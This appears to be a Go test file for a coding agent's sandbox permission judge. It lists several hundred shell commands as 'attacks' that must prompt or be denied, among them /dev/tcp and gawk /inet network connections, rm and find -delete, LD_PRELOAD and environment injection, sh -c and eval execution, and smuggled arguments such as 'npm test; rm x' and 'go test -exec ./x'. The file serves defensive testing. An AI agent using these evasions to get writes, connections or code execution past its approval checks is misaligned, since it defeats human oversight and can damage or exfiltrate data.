// This file holds attempts to get past the judge by what programs and shells do besides what they are known for. The texts are
// data: they are judged and never run.

package policy

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"sandboxagent/editors"
)

// attacks would write, connect, or run what is not looked into. Every one must be asked about.
var attacks = []string{
	// Builtins that run or set what their arguments say.
	`jobs -x touch f`, `jobs -lx touch f`, `jobs -x`, `jobs $x`, `jobs "$x" touch f`, `command jobs -x touch f`, `builtin jobs -x touch f`,
	`printf 'xxx%n' PATH; ls`, `printf 'xxx%5n' PATH`, `printf 'xxx%ln' PATH`, `printf "a$x" PATH`, `printf a$x PATH`, `printf -- '%n' PATH`, `printf '%%%n' PATH`, `printf '%s%-*n' a 5 PATH`, `printf "$x" PATH`, `printf a* PATH`, `ls | xargs printf`,
	`for PATH in .; do ls; done`, `read PATH`, `read -r PATH`, `set -a; : ${LD_PRELOAD:=x}`, `: ${LD_PRELOAD:=x}`, `: "${PATH=.}"`, `wait -p PATH`, `wait -np PATH`, `wait -f`, `cd x; set -o allexport`, `command set -a`, `builtin read PATH`, `command printf '%n' PATH`,
	// Second operands that are written.
	`uniq *.txt`, `uniq {a,b}`, `uniq a{b,c}`, `ls | xargs uniq`, `ls | xargs uniq a`, `find . -exec uniq {} +`, `uniq $x`, `uniq a "$x"`, `uniq -c a b`, `uniq - b`, `uniq -f 1 a b`, `uniq "$@"`, `uniq a?`, `xargs -I{} uniq a {}`, `xargs -I{} xxd a {}`, `xxd *`, `xxd -l 16 a b`, `xxd -c a b c`, `find . -exec xxd {} +`,
	// xargs that appends what it seems to replace, or the other way round.
	`xargs -I{} -n2 sort a{}`, `xargs -I{} -L1 sort a{}`, `xargs -I{} -L 1 sort a{}`, `xargs -I {} --max-args=2 sort a{}`, `xargs -I{} --max-lines=1 sort a{}`, `xargs -I{} --max-args 2 sort a`,
	`xargs -a -Ix sort`, `xargs -aIx sort`, `xargs -E -Ix sort`, `xargs -EIx sort`, `xargs -0EIx sort`, `xargs -d I sort`, `xargs -dI sort`, `xargs -s Ix sort`, `xargs --delimiter -Ix sort`, `xargs -Ix -Iy sort y`, `xargs --max-lines rm ls`, `xargs --max-lines=1 ls`, `xargs -I{} sort {}`, `xargs -I{} rg {}`, `xargs -Ix xrg y`,
	// Names that are connections.
	`cat < /dev/tcp/h/80`, `cat < /dev/t\cp/h/80`, `cat < '/dev'/tcp/h/80`, `cat < "/dev/tcp/$h/80"`, `cat < /dev/$x/h/80`, `cat < "/dev/udp/h/53"`, `cat < $x`, `read x < /dev/tcp/h/80`, `while read x; do echo $x; done < /dev/tcp/h/80`, `{ cat; } < /dev/tcp/h/80`, `cat 0< /dev/tcp/h/80`, `exec 3< /dev/tcp/h/80`, `x=$(</dev/tcp/h/80)`, `cat < /dev/[t]cp/h/80`, `cat < /de*/tcp/h/80`,
	`gawk 1 /inet/tcp/0/h/80`, `awk '{print}' /inet/udp/0/h/80`, `awk 1 /inet4/tcp/0/h/80`, `awk 1 /inet6/tcp/0/h/80`, `gawk 1 a /inet/tcp/0/h/80`, `gawk 1 -- /inet/tcp/0/h/80`, `gawk 1 /in*`, `gawk 1 /in"$x"`, `gawk 1 "/$x"`, `xargs -I{} gawk 1 /{}`, `find . -exec gawk 1 /{} \;`, `gawk 'BEGIN{ARGV[1]="/inet/tcp/0/h/80";ARGC=2} 1'`, `gawk 'BEGIN{SYMTAB["AR" "GV"][1]="/inet/tcp/0/h/80";ARGC=2} 1'`, `gawk 'BEGIN{ARGV[1]="/in" "et/tcp/0/h/80"} 1' x`, `gawk 1 x=1 /inet/tcp/0/h/80`, `gawk 1 //inet/tcp/0/h/80x /inet/tcp/0/h/1`,
	`tar tf host:file`, `tar tf "host:$x"`, `tar tf ho*`, `tar tzf user@h:a`, `tar tvf h:/dev/x`, `ls | xargs tar tf`, `xargs -I{} tar tf {}`, `tar tf a -I./x`, `tar tf a --use-compress-program=./x`, `tar t --file=h:a`, `tar tf a --rsh-command=./x`, `tar tf a -F./x`, `tar tfF a ./x`, `tar tLf a b`,
	// Variables that programs obey.
	`RIPGREP_CONFIG_PATH=x rg y`, `env RIPGREP_CONFIG_PATH=x rg y`, `TAR_OPTIONS=-I./x tar tf a`, `JQ_COLORS=x jq .`, `GCONV_PATH=. iconv -l`, `CDPATH=x cd y`, `BASHOPTS=x bash -c ls`, `SHELLOPTS=xtrace bash -c ls`, `GREP_OPTIONS=x grep y a`, `AWKPATH=. awk 1 a`, `PERL5LIB=. shasum a`, `UNZIP=-d unzip -l a`, `LS_COLORS=x ls`, `POSIXLY_CORRECT=1 ls`, `PATH+=:. ls`, `env PATH+=. ls`, `env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls`, `http_proxy=x; export LD_AUDIT=y`, `export "PATH=."`, `export $x`, `declare PATH`, `local PATH=.`, `command export PATH=.`, `histchars=x ls`,
	`env -u PATH bash -c ls`, `env -uPATH sh -c ls`, `env --unset=PATH ls`, `env --unset PATH ls`, `env -i bash -c ls`, `env -iu X ls`, `env - ls`, `env --ignore-environment ls`, `env -u "$x" bash -c ls`, `env -0i ls`, `env -u X -u PATH ls`,
	// Words after -- that are options all the same, since an option takes the -- for its value.
	`git grep -e -- -Oless`, `git grep -e -- -O./x y`, `git grep -ne -- --open-files-in-pager=x`, `git grep -f -- -O./x`, `git cat-file --path -- --textconv HEAD:a`, `git cat-file --path -- --filters HEAD:a`, `git grep --max-depth -- -O./x y`, `git grep -A -- -O./x y`, `git blame -S -- --textconv a`,
	`sed -e -- -i f`, `sort -k -- -o f a`, `rg -e -- --pre ./x y`, `date -d -- -s x`, `sort -t -- -of`,
	// Formats that make git run gpg.
	`git log --format=%G?`, `git log --pretty=format:%GK`, `git show --pretty=%GS`, `git log --pretty=%h%x00%GG`, `git for-each-ref --format='%(signature)'`, `git branch --format='%(signature:grade)'`, `git tag --list --format='%(signature)'`, `git for-each-ref --format '%(signature:key)'`,
	// Conditions that a shell without [[ reads as commands.
	`[[ a || ! rm ]]`, `[[ -f a || ! rm ]]`, `[[ a == b || ! ! rm ]]`, `[[ a && ! rm x ]]`, `[[ a == b || rm ]]`, `[[ a || ! b == c ]]`, `[[ a || ! -n $(rm x) ]]`, `[[ ! ( rm ) ]]`,
	// Brackets in sed's expressions that some seds read to their end.
	`sed 's/[]/]/;s/w f/b/' a`, `sed 's/[^]/]/;s/w f/b/' a`, `sed 's/[[:alpha:]/]/;s/w f/b/' a`, `sed 's/[[.a.]/]/;s/w f/b/' a`, `sed 's/[[=a=]/]/;s/w f/b/' a`, `sed '/[]/]/s/w f/b/' a`, `sed 'y/[]/]/;s/w f/b/' a`, `sed --sandbox=no 'w f' a`, `sed -n '/a/{p;w f' a`, `sed 's/a/b/mw f' a`, `sed $'s/a/b/\nw f' a`, `sed -E -e p -fx a`,
	// Commands in which an option, a program or a script stands where it is not seen.
	`sort $'-o' f a`, `sort $'\x2do' f`, `sort "-"o f`, `sort \-o f`, `sort $"-o" f`, `sort -"$x" f`, `sort ~+ -o f`, `sort {-o,f}`, `sort a -o f`, `sort -mo f a`, `sort --parallel=2 -o f`, `sort --files0-from=x --output f`, `sort -S 1 --compress-program ./x a`, `sort +1 -o f`, `rg --p ./x y`, `rg -nz x`, `rg --pre\=./x y`, `fd -0x rm`, `fd -tx -x rm`, `fd . -X rm`, `fd --exec-batch rm`, `fd -l`, `tree -fo f`, `tree --fromfile -o f`, `file -Cm x`, `file --compile -m x`, `shuf -n1 -o f a`, `iconv -l --output=f`, `base64 -di -o f`, `yq -nP -i .a f`, `yq '.a' -i f`, `date -us 0`, `date +%s -s x`, `date --reference=x --set=y`, `hostname -s x`, `hostname -b x`, `hostname -sF f`, `zcat -d -f a`, `unzip -l a -d x -o`, `unzip -Z1 a -o`, `ip -b x`, `ip -force a`, `ip a flush dev x`, `ip netns exec x rm`, `ip a show dev x up rm`, `tee -p f`, `tee -- f`, `tee /dev/stdout/../f`, `tee -`, `umask -S 0`, `umask 022`,
	`find . -ok rm {} \;`, `find . -okdir rm {} +`, `find . -exec ls {} \; -exec rm {} \;`, `find . -fprint0 f`, `find . -name a -o -delete`, `find . -newermt x -delete`, `find . -newer -delete -delete`, `find -D exec -delete`, `find . -D -O3 -delete`, `find . -execdir ./x \;`, `find . -exec ./{} \;`, `find . -exec "$x" {} \;`, `find . -exec sh {} \;`, `find . -exec sh -c {} \;`, `find . -exec sort {} +`, `find . -exec git log {} \;`, `find . -exec env PATH=. ls \;`, `find . -exec xargs rm \;`, `find . "(" -delete ")"`, `find . \( -exec rm {} + \)`,
	`sh -c '"$@"' x rm`, `sh -c '$0' rm`, `sh -c 'sort "$1"' x -of`, `bash -c 'ls' ; bash`, `bash -cx 'rm x'`, `bash -c -- rm`, `bash --posix -c ls`, `bash -s`, `bash -i`, `bash +O extglob -c ls`, `dash -c 'rm x'`, `sh -c -e ls`, `sh -c 'eval "$1"' x rm`, `sh -c ". ./x"`, `sh -c 'exec rm'`, `timeout 1 sh -c "$x"`, `nice -n1 bash -c 'rm x'`, `timeout -s 9 1 rm x`, `timeout --signal 9 1 rm x`, `stdbuf -o0 -e0 rm x`, `nice --adjustment=1 rm x`, `setsid -f rm x`, `nohup -- rm x`, `command -p rm x`, `command -pv rm`, `exec -c rm x`, `exec -l rm x`, `time -p rm x`, `env -S'rm x'`, `env -vS 'rm x'`, `env -C / rm`, `env -- rm x`, `env a=1 -i rm`, `xargs -t rm`, `xargs -p rm`, `xargs -o vi`, `xargs --process-slot-var=PATH ls`, `xargs -rn1 sh -c`, `xargs -a f sh`, `xargs -- rm`, `xargs --replace rm {}`, `xargs -i rm {}`, `xargs --open-tty vi`, `eval ls \; rm x`, `eval "ls
rm x"`, `eval 'eval "rm x"'`, `eval -- rm x`,
	`diff <(ls) <(rm x)`, `cat <(ls > f)`, `ls > >(rm x)`, `echo ${x:-$(rm x)}`, `x=$(rm x)`, `x=${y:=$(rm x)}`, `case $(rm x) in a) ls;; esac`, `case a in $(rm x)) ls;; esac`, `case a in a) rm x;; esac`, `for i in $(rm x); do ls; done`, `for i in a; do rm $i; done`, `until rm x; do ls; done`, `if ls; then pwd; elif rm x; then ls; else ls; fi`, `if ls; then pwd; else rm x; fi`, `{ ls; rm x; }`, `(ls; (pwd; rm x))`, `! rm x`, `ls & rm x &`, `time { rm x; }`, `cat <<< "$(rm x)"`, `cat <<A <<B
$(rm x)
A
B
B`, `cat <<-EOF
	$(rm x)
	EOF`, `echo "a $(ls "$(rm x)") b"`, `echo $(( $(rm x) ))`, `echo $((1 + x))`, `x[1]=2`, `BASH_CMDS[ls]=./x`, `BASH_ALIASES[ls]=rm`, `ls >&f`, `ls 2>&1 >f`, `ls >| f`, `ls 3>f >&3`, `ls >/dev/tcp/h/80`, `ls > /dev/stdout/x`, `ls <>f`, `ls >"$x"`, `: > f`, `>f`, `2>f`, `ls {x}<a`,
	`yes > f`, `cat a | tee f`, `cat a | dd of=f`, `cat a | sponge f`, `cat | sh -s`, `ls | bash`, `ls | xargs -I{} bash -c {}`, `ls | while read f; do rm "$f"; done`, `ls | parallel rm`, `less a`, `man ls`, `vi a`, `ed a`, `ex -sc wq a`, `screen ls`, `tmux new ls`, `script f`, `ssh-keygen -f f`, `openssl enc -out f`, `gpg a`, `at now`, `busybox ls`, `toybox ls`, `ld.so ls`, `/lib64/ld-linux-x86-64.so.2 ls`, `/usr/bin/../../tmp/ls`, `/usr/bin//ls`, `/bin/./ls`, `./bin/ls`, `ls/../rm`, `objdump -d a`, `nm --plugin ./x.so a`, `gdb -batch a`, `strace ls`, `ldd ./a`, `pr -o f; rm x`, `split a`, `csplit a 1`, `logger x`, `wall x`, `write root`, `mesg n`, `lsof`, `ss -K`, `sysctl -w a=b`, `dmesg -C`, `mount`, `nsenter ls`, `chroot / ls`, `runuser ls`, `capsh -- -c ls`, `perf stat ls`, `cpio -o`, `ar t a`, `zip -T a`, `7z l a`, `sqlite3 a .dump`, `psql -c x`, `docker ps`, `go list ./...`, `go vet ./...`, `cargo metadata`, `npm ls`, `pip list`, `make -n`, `cmake --build .`, `tsc --noEmit`, `node --check a`, `python3 -m json.tool a`, `perl -ne print a`, `ruby -c a`, `php -l a`,
}

// honest are commands that look like some of those and only read. None may be asked about.
var honest = []string{
	`jobs`, `jobs -l`, `jobs -p`, `printf '%s\n' a`, `printf "%d items\n" 3`, `printf '100%% new\n'`, `printf '%-10s|%5.2f\n' a 1`, `printf "a: $x\n"`, `uniq a`, `sort a | uniq -c`, `uniq "a b"`,
	`xargs -I{} cat {}`, `xargs -I{} grep x {}`, `xargs -n1 cat`, `ls | xargs printf a`, `xargs -I % cat a/%`, `xargs -I x sort -k x`, `xargs -d '\n' wc -l`, `xargs -0 -n 10 grep x`, `find . -print0 | xargs -0 grep -n x`,
	`awk '{print $1}' /etc/hosts`, `awk '{print}' /tmp/x a`, `gawk -F: '{print $2}' a b`, `awk 1 ./inet/x`, `env -u X ls`, `env -uX ls`, `env | sort`,
	`git grep -e x -- src`, `git grep -n x -- '*.go'`, `git diff --stat -- a.txt`, `git log --oneline -- "$x"`, `git log --format=%H%x09%an`, `git log --pretty=oneline`, `git for-each-ref --format='%(refname)'`,
	`[[ -f a && ! -f b ]]`, `[[ ! -f a ]]`, `[[ -f a || -d b ]]`, `[[ $x == y* ]]`, `sed 's/[[:space:]]*$//' a`, `sed -n 's/[^]]*x/y/p' a`, `sed 's/[^,]*,//' a`, `sed 's/[]x]/y/' a`, `sed '/[[:digit:]]/d' a`, `cat < a`, `while read -r l; do echo "$l"; done < a`,
}

func TestAttacksAreAskedAbout(t *testing.T) {
	for _, c := range attacks {
		v := judge(editors.ApprovalAsk, shellCall(t, c), true)
		assert.Equal(t, Ask, v.Decision, "%q", c)
		assert.Equal(t, Deny, judge(editors.ApprovalReadOnly, shellCall(t, c), true).Decision, "%q", c)
	}
	for _, c := range honest {
		assert.Equal(t, Verdict{Decision: Allow}, judge(editors.ApprovalAsk, shellCall(t, c), true), "%q", c)
	}
}

// TestWideRulesStayNarrow holds that a * for always covers no argument that changes what a command does.
func TestWideRulesStayNarrow(t *testing.T) {
	rules := []Rule{}
	for _, p := range []string{"npm test *", "npm run build *", "go test *", "go vet *", "pytest *", "python -m pytest *", "cargo test *", "eslint *", "mypy *", "ruff check *", "tsc *", "make check"} {
		rules = append(rules, Rule{Tool: execCommand, Pattern: p})
	}
	for _, c := range []string{
		`npm test --prefix ../x`, `npm test -- --x`, `npm test $x`, `npm test *`, `npm test > f`, `npm test; rm x`, `npm test "$(rm x)"`, `npm test 'a=b'`, `npm test ../x`, `npm test /tmp/x`, `npm test ~/x`, `PATH=. npm test`, `./npm test`, `npm test x && npm run other`, `npm run other`, `npm  run build --script-shell=./x`, `npm test "a
b"`, `npm test {a,--x}`, `xargs npm test`, `find . -exec npm test {} +`, `(cd sub && npm test)`, `cd sub; npm test`, `sudo npm test`, `npm test @evil/pkg`,
		`go test -exec ./x ./...`, `go test -exec=./x`, `go test -toolexec ./x`, `go test --exec ./x`, `go test -o f`, `go test -c`, `go test -coverprofile f`, `go test -cpuprofile=f`, `go test -C sub`, `go test -vettool=./x`, `go test -ldflags=x`, `go test -overlay x`, `go test -modfile=x`, `go test -args -x`, `go test -run x -exec ./x`, `go vet -vettool=./x ./...`,
		`pytest -c x`, `pytest -p x`, `pytest --rootdir=x`, `pytest -o x=y`, `pytest --basetemp=x`, `pytest --junitxml=f`, `pytest a::b/../../c`, `pytest ../x`, `python -m pytest -p x`, `cargo test --config x`, `cargo test --manifest-path x`, `cargo test --target-dir=x`, `eslint --fix .`, `eslint -c x`, `eslint --rulesdir x`, `eslint -o f`, `mypy --install-types`, `mypy --python-executable ./x`, `ruff check --fix`, `tsc --outDir x`, `tsc -p x`, `make check x`, `make check -f x`, `make  check CC=./x`,
	} {
		assert.False(t, covers(rules, shellCall(t, c)), "%q", c)
	}
	for _, c := range []string{`npm test`, `npm test unit`, `go test -v ./...`, `go  test ./a | tail -5`, `timeout 60 make check`, `pytest -q tests/a.py`} {
		assert.True(t, covers(rules, shellCall(t, c)), "%q", c)
	}
}
